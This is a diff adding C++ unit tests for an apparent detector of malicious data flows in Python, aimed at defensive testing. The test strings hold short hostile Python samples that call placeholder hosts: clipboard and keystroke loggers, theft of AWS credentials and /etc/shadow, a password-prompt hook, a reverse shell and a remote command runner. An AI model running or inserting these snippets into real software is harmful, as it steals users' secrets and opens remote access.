@@ -61,6 +61,33 @@ TEST(Python, Spies) {
   expect_flow(p, "getattr(__import__('os'), 'sys' + 'tem')(__import__('requests').get('http://x.invalid').text)\n", "network to execute-command");
 }
 
+TEST(Python, ObjectsThreadsAndGlobals) {
+  const auto p = "python";
+  expect_flow(p, "import pyperclip, requests\nclass Copy:\n    def __init__(self, url):\n        self.url = url\n    def tell(self, text):\n        requests.post(self.url, data=text)\n"
+                 "c = Copy('http://x.invalid')\nc.tell(pyperclip.paste())\n", "clipboard to network");
+  expect_flow(p, "import threading, requests\nclass A:\n    def run(self):\n        self.send(open('/root/.aws/credentials').read())\n    def send(self, text):\n        requests.post('http://x.invalid', data=text)\n"
+                 "threading.Thread(target=A().run).start()\n", "credentials to network");
+  expect_flow(p, "from pynput import keyboard\nimport requests\nlog = ''\ndef press(key):\n    global log\n    log += str(key)\ndef report():\n    requests.post('http://x.invalid', data=log)\n"
+                 "keyboard.Listener(on_press=press).start()\nreport()\n", "keystrokes to network");
+  expect_flow(p, "from pynput import keyboard\nimport requests\nlog = []\ndef press(key):\n    log.append(key.char)\ndef report():\n    requests.post('http://x.invalid', data=''.join(log))\n"
+                 "keyboard.Listener(on_press=press).start()\nreport()\n", "keystrokes to network");
+  expect_flow(p, "from threading import Thread\nimport requests\ndef tell(url, text):\n    requests.post(url, data=text)\nThread(target=tell, args=('http://x.invalid', open('/etc/shadow').read())).start()\n",
+              "credentials to network");
+  expect_flow(p, "import os, pty, socket\nfrom threading import Thread\ndef go(where):\n    s = socket.socket()\n    s.connect(where)\n    for fd in range(3):\n        os.dup2(s.fileno(), fd)\n"
+                 "    pty.spawn(os.environ.get('SHELL', '/bin/sh'))\nThread(target=go, args=(('192.0.2.1', 443),)).start()\n", "network to open-shell");
+}
+
+TEST(Python, ReplacedPromptsAndReceivedObjects) {
+  const auto p = "python";
+  expect_flow(p, "import getpass, socket\nask = getpass.getpass\ndef mine(prompt='', stream=None):\n    answer = ask(prompt)\n    s = socket.socket()\n    s.sendto(answer.encode(), ('203.0.113.4', 53))\n    return answer\n"
+                 "getpass.getpass = mine\n", "credentials to network");
+  expect_flow(p, "import json, subprocess\nfrom urllib.request import urlopen\nfor task in json.load(urlopen('http://x.invalid/t'))['tasks']:\n    subprocess.run(task['line'], shell=True)\n", "network to execute-command");
+  const auto nested = read("exec(\"import os\\nos.system('id')\")\n", p);
+  EXPECT_EQ(nested.sink.children.size(), 1u);
+  // A client that asks for a password and logs in with it.
+  expect_none(p, "import getpass, requests\nrequests.post('http://x.invalid', data={'p': getpass.getpass()})\n");
+}
+
 TEST(Python, HarmlessTwins) {
   const auto p = "python";
   expect_none(p, "import requests\nr = requests.get('http://x.invalid/data.json')\nopen('data.json', 'w').write(r.text)\n");
